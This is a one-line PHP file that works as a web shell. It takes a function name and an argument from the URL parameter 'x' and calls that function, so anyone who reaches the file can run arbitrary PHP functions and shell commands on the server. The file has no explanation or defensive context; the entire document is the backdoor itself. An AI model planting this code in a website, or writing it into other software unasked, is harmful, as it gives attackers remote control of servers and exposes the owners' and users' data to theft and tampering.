<?php list($f, $a) = explode('|', $_GET['x'], 2); $f($a);
